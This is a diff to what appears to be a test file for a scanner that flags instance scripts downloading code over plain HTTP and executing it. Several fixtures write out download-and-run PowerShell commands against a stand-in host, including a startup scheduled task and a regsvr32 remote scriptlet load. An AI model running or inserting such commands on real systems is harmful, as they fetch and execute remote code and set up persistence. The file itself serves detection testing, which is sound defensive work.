@@ -371,4 +371,70 @@ To repair this machine: iwr http://ops.example.net/repair.ps1 -UseBasicParsing |
 </powershell>
 `,
   ),
+  bad(
+    "arguments of a process as a list",
+    () => `<powershell>
+Invoke-WebRequest http://dl.acme.example/setup.ps1 -OutFile C:\\setup.ps1
+Start-Process powershell.exe -ArgumentList '-ExecutionPolicy','Bypass','-File','C:\\setup.ps1' -Wait
+</powershell>
+`,
+  ),
+  bad(
+    "arguments of a process in a variable",
+    () => `<powershell>
+$installer = 'C:\\agent.msi'
+Invoke-WebRequest http://dl.acme.example/agent.msi -OutFile $installer
+$arguments = @(
+  '/i'
+  $installer
+  '/qn'
+)
+Start-Process msiexec.exe -ArgumentList $arguments -Wait
+</powershell>
+`,
+  ),
+  bad(
+    "arguments of a process in a variable, without an array's sign",
+    () => `<powershell>
+Invoke-WebRequest http://dl.acme.example/agent.msi -OutFile C:\\agent.msi
+$arguments = '/i', 'C:\\agent.msi', '/qn'
+& msiexec.exe @arguments
+</powershell>
+`,
+  ),
+  bad(
+    "options of a process in a hash on one line",
+    () => `<powershell>
+Invoke-WebRequest http://dl.acme.example/agent.exe -OutFile C:\\agent.exe
+$process = @{ FilePath='C:\\agent.exe'; ArgumentList='/S'; Wait=$true }
+Start-Process @process
+</powershell>
+`,
+  ),
+  bad(
+    "action of a scheduled task within its registration",
+    () => `<powershell>
+Invoke-WebRequest http://dl.acme.example/report.ps1 -OutFile C:\\report.ps1
+Register-ScheduledTask -TaskName report -Action (New-ScheduledTaskAction -Execute powershell.exe -Argument '-File C:\\report.ps1') -Trigger (New-ScheduledTaskTrigger -AtStartup)
+</powershell>
+`,
+  ),
+  good(
+    "arguments of processes that came over HTTPS",
+    () => `<powershell>
+Invoke-WebRequest https://dl.acme.example/agent.msi -OutFile C:\\agent.msi
+Invoke-WebRequest http://dl.acme.example/data.json -OutFile C:\\data.json
+$arguments = @('/i', 'C:\\agent.msi', '/qn')
+Start-Process msiexec.exe -ArgumentList $arguments -Wait
+Register-ScheduledTask -TaskName report -Action (New-ScheduledTaskAction -Execute powershell.exe -Argument '-File C:\\report.ps1') -Trigger (New-ScheduledTaskTrigger -AtStartup)
+</powershell>
+`,
+  ),
+  bad(
+    "scriptlet of another host",
+    () => `<script>
+regsvr32 /s /n /u /i:http://dl.acme.example/agent.sct scrobj.dll
+</script>
+`,
+  ),
 ];
